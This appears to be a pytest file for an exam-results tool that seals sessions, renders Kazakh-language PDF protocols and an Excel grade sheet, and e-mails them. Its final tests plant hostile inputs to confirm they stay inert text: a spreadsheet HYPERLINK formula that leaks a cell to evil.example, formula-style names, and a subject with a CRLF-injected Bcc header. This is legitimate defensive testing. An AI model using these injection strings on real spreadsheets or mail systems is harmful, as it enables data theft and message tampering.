"""Sealing: protocols and the grade sheet drawn up, e-mailed to every member, readable in Kazakh."""

from __future__ import annotations

import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any, ClassVar

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import select
from sqlalchemy.orm import Session

from lms_bridge.config import Secret, SmtpSettings
from lms_bridge.domain.session import SessionSpec
from lms_bridge.results.examday import release_results
from lms_bridge.results.seal import SealRefused, seal_session, send_email
from lms_bridge.store.db import make_engine, make_sessionmaker
from lms_bridge.store.models import BallotRecord, DecisionRecord, ExamSession, OutboxEmail, StudentRecord
from lms_bridge.store.repo import import_session
from lms_bridge.store.schema import ensure_schema


@pytest.fixture
def db(tmp_path: Path, sample_spec: SessionSpec) -> Iterator[Session]:
    engine = make_engine(f"sqlite:///{tmp_path / 'store.sqlite3'}")
    ensure_schema(engine)
    with make_sessionmaker(engine)() as session:
        import_session(session, sample_spec, source_name="sample-session.yaml", actor="test")
        session.commit()
        yield session
    engine.dispose()


def _decide_everyone(db: Session) -> ExamSession:
    session = db.scalar(select(ExamSession))
    assert session is not None
    for i, s in enumerate(db.scalars(select(StudentRecord).where(StudentRecord.admitted.is_(True)))):
        s.ticket_number = i + 1
        db.add(BallotRecord(session_id=session.id, student_id=s.id, voter_email="e.zhumabekov@univ.edu.kz",
                            form_id=f"f{i}", response_id="r", submitted_at=session.starts_at, grade="A-",
                            degree="yes", status="counted"))
        db.add(DecisionRecord(session_id=session.id, student_id=s.id, rule="mean", letter="A-", points=92.0,
                              gpa=3.67, votes={"letter_counts": {"A-": 4}}, degree_award=True,
                              degree_totals={"yes": 4, "no": 0, "blank": 0}))
    db.flush()
    release_results(db, session, actor="secretary")  # the chair has announced the results
    return session


def test_sealing_writes_the_documents_and_emails_every_member(db: Session, tmp_path: Path) -> None:
    session = _decide_everyone(db)
    emails = seal_session(db, session, actor="secretary", data_dir=tmp_path)
    db.commit()
    assert session.status == "sealed"
    assert session.draw_revealed_at is not None
    # Every member, then the registrar and the department named in the session file.
    assert session.registrar_email == "registrar@univ.edu.kz"
    assert session.department_email == "is-department@univ.edu.kz"
    assert sorted(e.recipient for e in emails) == sorted(
        [m.email for m in session.members] + [session.registrar_email, session.department_email])
    office = next(e for e in emails if e.recipient == session.registrar_email)
    assert office.attachments == emails[0].attachments
    names = [a["filename"] for a in emails[0].attachments]
    admitted = [s for s in session.students if s.admitted]
    assert len(names) == 2 + 2 * len(admitted)
    protocol = next(a for a in emails[0].attachments if a["filename"].endswith(f"{admitted[0].student_ref}.pdf"))
    text = PdfReader(tmp_path / protocol["path"]).pages[0].extract_text()
    # Kazakh letters survive: the font is embedded and the text layer is real Unicode.
    assert admitted[0].name.split()[0] in text
    assert "Жұмабеков" in text
    assert "өте жақсы" in text  # A- in the session language
    sheet = next(a for a in emails[0].attachments if a["filename"].endswith("grade-sheet.xlsx"))
    wb = load_workbook(io.BytesIO((tmp_path / sheet["path"]).read_bytes()))
    values = [c.value for row in wb.active.iter_rows() for c in row]
    assert admitted[0].name in values
    assert "A-" in values
    with pytest.raises(SealRefused):
        seal_session(db, session, actor="secretary", data_dir=tmp_path)


def test_a_session_with_undecided_students_is_not_sealed(db: Session, tmp_path: Path) -> None:
    session = db.scalar(select(ExamSession))
    assert session is not None
    with pytest.raises(SealRefused):
        seal_session(db, session, actor="secretary", data_dir=tmp_path)
    assert session.status != "sealed"
    assert not (tmp_path / "documents").exists()


class RecordingSmtp:
    sent: ClassVar[list[Any]] = []

    def __init__(self, host: str, port: int, timeout: float) -> None:
        self.host, self.port = host, port
        self.calls: list[str] = []

    def __enter__(self) -> RecordingSmtp:
        return self

    def __exit__(self, *exc: object) -> None:
        return None

    def starttls(self, context: object) -> None:
        self.calls.append("starttls")

    def login(self, user: str, password: str) -> None:
        assert password == "pw"
        self.calls.append("login")

    def send_message(self, msg: object) -> None:
        RecordingSmtp.sent.append((self.calls[:], msg))


def test_an_outbox_email_goes_out_with_its_attachments(db: Session, tmp_path: Path) -> None:
    session = _decide_everyone(db)
    email = seal_session(db, session, actor="secretary", data_dir=tmp_path)[0]
    smtp = SmtpSettings(host="smtp.univ.edu.kz", username="bridge", password=Secret("pw"),
                        sender="bridge@univ.edu.kz")
    RecordingSmtp.sent.clear()
    send_email(smtp, email, tmp_path, connect=RecordingSmtp)  # type: ignore[arg-type]
    calls, msg = RecordingSmtp.sent[0]
    assert calls == ["starttls", "login"]
    assert msg["To"] == email.recipient  # type: ignore[index]
    files = [part.get_filename() for part in msg.iter_attachments()]  # type: ignore[attr-defined]
    assert files == [a["filename"] for a in email.attachments]


# -- text from people stays text ------------------------------------------------------------------

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&B2,"Аманов Серік")'


def _cells(data: bytes) -> list[Any]:
    return [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]


def test_a_formula_like_name_is_text_in_the_grade_sheet_and_protocols(db: Session, tmp_path: Path) -> None:
    session = _decide_everyone(db)
    student = next(s for s in session.students if s.admitted)
    student.name = EVIL_NAME
    member = next(m for m in session.members if m.role == "member")
    member.name = "=1+1"
    session.title = "@SUM(1)"  # Excel reads "@", "+", "-" openings as formulas too, once typed as one
    db.flush()
    emails = seal_session(db, session, actor="secretary", data_dir=tmp_path)
    workbooks = [tmp_path / a["path"] for a in emails[0].attachments if a["filename"].endswith(".xlsx")]
    assert len(workbooks) >= 2
    seen: set[str] = set()
    for path in workbooks:
        for cell in _cells(path.read_bytes()):
            if isinstance(cell.value, str) and cell.value[:1] in "=@":
                assert cell.data_type == "s", (path.name, cell.coordinate, cell.value)
                seen.add(cell.value)
            assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
    assert EVIL_NAME in seen
    assert "=1+1" in seen
    # The student's id keeps its leading zeros as text.
    sheet = next(p for p in workbooks if p.name.endswith("grade-sheet.xlsx"))
    refs = [c for c in _cells(sheet.read_bytes()) if c.value == student.student_ref]
    assert refs
    assert all(c.data_type == "s" for c in refs)


def test_a_title_with_line_breaks_still_makes_sendable_emails(db: Session, tmp_path: Path) -> None:
    # Stored before titles were checked (or written by something else): the e-mail must still go.
    session = _decide_everyone(db)
    session.title = "Кешенді\r\nBcc: everyone@evil.example\u202e " + "ұ" * 600
    db.flush()
    email = seal_session(db, session, actor="secretary", data_dir=tmp_path)[0]
    assert "\n" not in email.subject
    assert "\r" not in email.subject
    assert "\u202e" not in email.subject
    assert len(email.subject) <= OutboxEmail.__table__.c.subject.type.length
    db.commit()
    smtp = SmtpSettings(host="smtp.univ.edu.kz", sender="bridge@univ.edu.kz", starttls=False)
    RecordingSmtp.sent.clear()
    email.subject = "Old\r\nBcc: x@evil.example"  # an outbox row written before subjects were cleaned
    send_email(smtp, email, tmp_path, connect=RecordingSmtp)  # type: ignore[arg-type]
    _calls, msg = RecordingSmtp.sent[0]
    wire = msg.as_bytes()  # type: ignore[attr-defined]
    assert b"\nBcc:" not in wire
    assert msg["Subject"] == "Old Bcc: x@evil.example"  # type: ignore[index]
    assert msg["Bcc"] is None  # type: ignore[index]


def test_an_office_address_that_is_a_members_gets_one_email(db: Session, tmp_path: Path) -> None:
    session = _decide_everyone(db)
    session.registrar_email = session.members[0].email
    session.department_email = ""
    emails = seal_session(db, session, actor="secretary", data_dir=tmp_path)
    assert sorted(e.recipient for e in emails) == sorted(m.email for m in session.members)
